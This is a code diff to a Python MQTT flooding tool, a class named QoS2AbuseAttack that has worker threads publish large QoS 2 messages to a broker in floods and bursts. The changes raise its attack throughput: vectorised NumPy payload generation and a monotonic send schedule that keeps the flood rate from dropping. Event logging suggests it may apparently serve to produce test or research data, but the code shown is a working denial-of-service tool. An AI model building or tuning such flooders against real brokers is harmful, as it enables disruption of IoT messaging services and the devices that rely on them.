@@ -7,8 +7,12 @@ import threading
 import time
 from datetime import datetime, timezone
 
+import numpy as np
 import paho.mqtt.client as mqtt
 
+# Bảng ký tự alphanumeric dạng uint8: sinh payload ngẫu nhiên bằng NumPy thay vì loop random từng byte
+_ALPHANUM = np.frombuffer(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", dtype=np.uint8)
+
 class QoS2AbuseAttack:
     def __init__(self, args):
         self.args = args
@@ -55,17 +59,16 @@ class QoS2AbuseAttack:
                 payload_size, handshake_step, status, details
             ])
 
-    def generate_qos2_payload(self, size_kb=1):
+    def generate_qos2_payload(self, rng, size_kb=1):
         if self.args.payload_type == "random":
             size_bytes = size_kb * 1024
             payload = {
                 "timestamp": datetime.now().isoformat(),
                 "qos": 2,
-                "data": ''.join(random.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") 
-                               for _ in range(size_bytes - 200))
+                "data": _ALPHANUM[rng.integers(0, len(_ALPHANUM), max(size_bytes - 200, 0))].tobytes().decode('ascii')
             }
         elif self.args.payload_type == "binary":
-            payload = bytes([random.randint(0, 255) for _ in range(size_kb * 1024)])
+            payload = rng.integers(0, 256, size_kb * 1024, dtype=np.uint8).tobytes()
         else:
             payload = {
                 "device_id": f"device_{random.randint(1, 1000):04d}",
@@ -175,6 +178,9 @@ class QoS2AbuseAttack:
         
         message_interval = 1.0 / self.args.message_rate if self.args.message_rate > 0 else 1.0
         message_count = 0
+        next_send = time.monotonic()
+        # Worker-local generator: flood workers draw KB-sized payloads concurrently
+        rng = np.random.default_rng()
         
         topics = [
             f"qos2/flood/{worker_id}/data",
@@ -187,7 +193,7 @@ class QoS2AbuseAttack:
         try:
             while not self.stop_event.is_set() and message_count < self.args.max_messages_per_worker:
                 topic = random.choice(topics)
-                payload = self.generate_qos2_payload(self.args.payload_size_kb)
+                payload = self.generate_qos2_payload(rng, self.args.payload_size_kb)
                 
                 try:
                     result = client.publish(topic, payload, qos=2)
@@ -209,7 +215,11 @@ class QoS2AbuseAttack:
                     self.log_qos2_event(client_id, worker_id, 0, topic, "publish", status="exception", 
                                       details=str(e))
                 
-                time.sleep(message_interval)
+                # Absolute schedule on the monotonic clock so send time doesn't drag the message rate down
+                next_send += message_interval
+                delay = next_send - time.monotonic()
+                if delay > 0:
+                    time.sleep(delay)
         
         except KeyboardInterrupt:
             pass
@@ -315,10 +325,11 @@ class QoS2AbuseAttack:
             client.loop_start()
             
             message_count = 0
+            rng = np.random.default_rng()
             while not self.stop_event.is_set() and message_count < self.args.max_messages_per_worker // 2:
                 for i in range(5):
                     topic = f"mixed/{worker_id}/burst_{message_count}_{i}"
-                    payload = self.generate_qos2_payload(random.randint(1, 5))
+                    payload = self.generate_qos2_payload(rng, random.randint(1, 5))
                     client.publish(topic, payload, qos=2)
                     time.sleep(0.1)
                 